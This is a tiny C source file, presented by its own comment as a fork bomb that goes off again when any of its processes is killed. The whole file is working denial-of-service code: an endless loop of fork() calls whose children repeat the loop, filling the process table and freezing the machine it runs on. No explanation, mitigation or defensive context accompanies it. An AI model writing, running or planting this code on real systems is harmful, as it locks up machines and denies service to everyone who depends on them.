/* A fork bomb that goes off again whenever one of it is killed. */
#include <unistd.h>

int main(void) {
    for (;;)
        if (fork() < 0) usleep(1000);
}
